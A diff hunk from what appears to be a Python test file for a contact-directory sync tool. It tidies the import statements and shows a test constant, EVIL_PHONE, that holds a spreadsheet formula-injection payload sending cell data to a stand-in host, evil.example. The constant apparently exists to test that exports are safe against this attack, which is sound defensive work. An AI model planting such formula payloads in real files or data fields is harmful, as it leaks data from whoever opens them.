@@ -17,11 +17,9 @@ import vobject
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from pocsync.directory import exports
-from pocsync.directory import freetext
-from pocsync.directory import intake
-from pocsync.ops import logs
+from pocsync.directory import exports, freetext, intake
 from pocsync.errors import EntryError
+from pocsync.ops import logs
 from tests.support.cli import run
 
 EVIL_PHONE = '=HYPERLINK("http://evil.example/?x="&B2,"Call")'
